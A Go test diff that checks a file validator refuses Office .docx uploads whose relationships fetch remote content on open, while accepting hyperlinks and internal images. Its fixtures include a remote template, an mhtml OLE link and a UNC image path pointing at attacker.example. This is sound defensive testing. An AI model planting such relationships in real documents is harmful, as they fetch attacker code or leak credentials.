@@ -171,3 +171,51 @@ func TestEvidenceName(t *testing.T) {
 		}
 	}
 }
+
+// TestEvidenceExternalParts: an Office document that would fetch something when opened
+// (a remote template, an OLE object or frame linked by URL: relationships with
+// TargetMode="External" of any type but a hyperlink, which waits for a click) is
+// refused; hyperlinks are kept.
+func TestEvidenceExternalParts(t *testing.T) {
+	doc := func(rels string) []byte {
+		var b bytes.Buffer
+		zw := zip.NewWriter(&b)
+		for _, p := range []struct{ name, data string }{
+			{"[Content_Types].xml", `<?xml version="1.0"?><Types/>`},
+			{"word/document.xml", "<w:document/>"},
+			{"word/_rels/document.xml.rels", rels},
+		} {
+			w, err := zw.Create(p.name)
+			must(t, err)
+			_, err = w.Write([]byte(p.data))
+			must(t, err)
+		}
+		must(t, zw.Close())
+		return b.Bytes()
+	}
+	const ns = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
+	const typ = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+	for _, c := range []struct {
+		name, rels string
+		ok         bool
+	}{
+		{"hyperlink", ns + `<Relationship Id="rId1" Type="` + typ + `hyperlink" Target="https://www.yantai.gov.cn/" TargetMode="External"/></Relationships>`, true},
+		{"internal image", ns + `<Relationship Id="rId1" Type="` + typ + `image" Target="media/image1.png"/></Relationships>`, true},
+		{"remote template", ns + `<Relationship Id="rId1" Type="` + typ + `attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>`, false},
+		{"ole object by mhtml", ns + `<Relationship Id="rId1" Type="` + typ + `oleObject" Target="mhtml:http://attacker.example/x!x-usc:x" TargetMode="External"/></Relationships>`, false},
+		{"linked image", ns + `<Relationship Id="rId1" Type="` + typ + `image" Target="\\attacker.example\share\a.png" TargetMode="external"/></Relationships>`, false},
+		{"broken rels", ns + `<Relationship`, false},
+	} {
+		_, typ, _, err := sv.CheckEvidence(sv.File{Name: "方案.docx", R: bytes.NewReader(doc(c.rels))})
+		if c.ok {
+			if err != nil || typ != sv.TypeDOCX {
+				t.Errorf("%s: %q, %v; want accepted", c.name, typ, err)
+			}
+			continue
+		}
+		zh, en := plan.ErrorMessages(err)
+		if plan.ErrorCode(err) != plan.EINVALID || zh == en {
+			t.Errorf("%s: accepted (%q, %v); want refused in both languages", c.name, typ, err)
+		}
+	}
+}
